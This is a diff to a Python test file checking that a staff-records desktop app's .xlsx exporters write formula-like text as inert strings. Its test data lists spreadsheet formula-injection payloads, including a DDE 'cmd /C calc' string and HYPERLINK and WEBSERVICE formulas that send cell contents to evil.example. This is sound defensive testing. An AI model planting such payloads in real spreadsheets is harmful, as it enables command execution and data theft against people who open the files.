@@ -5,6 +5,10 @@ cell by every .xlsx writer, through one place (``desktop.documents.xlsx_cells``)
 string, never an ``<f>`` element, and the text reads back intact. Numbers stay numbers (totals can still be summed),
 and characters an .xlsx cannot hold (control characters already stored) are dropped instead of breaking the export.
 Every file is read back twice: with openpyxl and as the raw XML inside the zip.
+
+Crafted inputs (marked ``crafted``): each formula-like text alone through every writer of the one place and through
+``tdkt staff export`` (the stored rows unchanged by the export), and hostile data through each document list, the
+register and the report.
 """
 
 from __future__ import annotations
@@ -24,6 +28,7 @@ from desktop.documents.spreadsheet import Column, write_table
 from desktop.documents.xlsx_lists import ListColumn, write_list_xlsx
 from desktop.domain.staff import StaffDraft
 from desktop.store import staff_repo
+from tests.security import assert_no_traceback, cases, crafted, database_hash
 
 CALC = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Xem hồ sơ")'
@@ -36,6 +41,21 @@ HOSTILE = (
     "\t=1+2",
     "\r=1+2",
 )
+HOSTILE_CASES = {
+    "cmd-calc": CALC,
+    "hyperlink": LINK,
+    "plus-cmd": HOSTILE[2],
+    "minus-cmd": HOSTILE[3],
+    "at-sum": HOSTILE[4],
+    "tab-equals": HOSTILE[5],
+    "cr-equals": HOSTILE[6],
+    "dde-at-hyperlink": "@HYPERLINK(\"http://evil.example\",\"x\")",
+    "plus-one": "+1",
+    "minus-two": "-2",
+    "equals-sum-range": "=SUM(A1:A9)",
+    "webservice": '=WEBSERVICE("http://evil.example/?"&A2)',
+    "fullwidth-equals": "\uff1d1+1",  # "＝1+1": Excel does not read it as a formula, kept as typed
+}
 _FORMULA_XML = re.compile(rb"<(?:\w+:)?f[\s>/]")
 
 
@@ -129,9 +149,47 @@ def test_characters_an_xlsx_cannot_hold_are_dropped_not_fatal(tmp_path):
     assert "Lò Thị Mỷ" in texts
 
 
+@pytest.mark.parametrize("value", cases(HOSTILE_CASES))
+def test_each_formula_text_is_text_in_every_writer_of_the_one_place(value, tmp_path):
+    table = tmp_path / "bang.xlsx"
+    write_table(table, columns=[Column("Họ và tên"), Column("Số", kind="number")],
+                        rows=[[value, 7]], title_lines=[value])  # fmt: skip
+    listed = tmp_path / "ds.xlsx"
+    write_list_xlsx(listed, title=value, subtitle=value,
+                    columns=[ListColumn("Họ và tên", 30), ListColumn("Số tiền", 15, "money")],
+                    rows=[[value, 710_000]], totals={"Số tiền": 710_000})  # fmt: skip
+    for path in (table, listed):
+        texts, others = read_back(path)
+        assert texts.count(value) >= 2, (path.name, texts)  # as typed: no prefix added, nothing removed
+        assert any(isinstance(v, int) and v in (7, 710_000) for v in others)
+        sheet = load_workbook(path).active
+        cells = [c for row in sheet.iter_rows() for c in row if c.value == value]
+        assert all(c.data_type == "s" for c in cells)
+        if value[0] in "=+-@\t\r":
+            assert all(c.quotePrefix for c in cells), path.name
+
+
+@pytest.mark.parametrize("value", cases(HOSTILE_CASES))
+def test_each_formula_text_goes_out_of_staff_export_as_text(value, unit_store, db_path, tmp_path, capsys):
+    with unit_store.transaction(operation="test.setup"):
+        draft = StaffDraft(full_name=value, staff_code="CB90001", position=value, department=value, notes=value)
+        staff_repo.insert_staff(unit_store, draft)
+    stored = unit_store.query("SELECT full_name, position, notes FROM staff")
+    before = database_hash(unit_store, skip=["audit_log"])
+    target = tmp_path / "can-bo.xlsx"
+    code = main(["--db", str(db_path), "staff", "export", str(target)])
+    _out, err = capsys.readouterr()
+    assert code == 0, err
+    assert_no_traceback(err)
+    texts, _others = read_back(target)
+    assert stored[0]["full_name"] in texts and stored[0]["position"] in texts and stored[0]["notes"] in texts
+    assert database_hash(unit_store, skip=["audit_log"]) == before  # only the export event is logged
+
+
 # -- every writer ------------------------------------------------------------------------------------------------
 
 
+@crafted
 def test_staff_export_from_the_cli(unit_store, db_path, tmp_path, capsys):
     _hostile_people(unit_store)
     target = tmp_path / "can-bo.xlsx"
@@ -141,7 +199,7 @@ def test_staff_export_from_the_cli(unit_store, db_path, tmp_path, capsys):
     assert any(isinstance(v, date) for v in others)  # dates stay real dates
 
 
-@pytest.mark.parametrize("kind", review_docs.LIST_KINDS)
+@pytest.mark.parametrize("kind", cases({kind: kind for kind in review_docs.LIST_KINDS}))
 def test_document_lists(kind, tmp_path):
     from tests.documents import test_review_docs as docs
 
@@ -173,6 +231,7 @@ def test_document_lists(kind, tmp_path):
         assert any(isinstance(v, int) and v >= 540_000 for v in others)  # money stays numbers
 
 
+@crafted
 def test_register_from_the_cli(db_path, tmp_path, capsys):
     from desktop.ops.demo import fill_demo
     from desktop.store import open_store
@@ -197,6 +256,7 @@ def test_register_from_the_cli(db_path, tmp_path, capsys):
     assert_intact(texts, CALC, "@" + CALC)
 
 
+@crafted
 def test_report_from_the_cli(db_path, tmp_path, capsys):
     from desktop.ops.demo import fill_demo
     from desktop.store import open_store
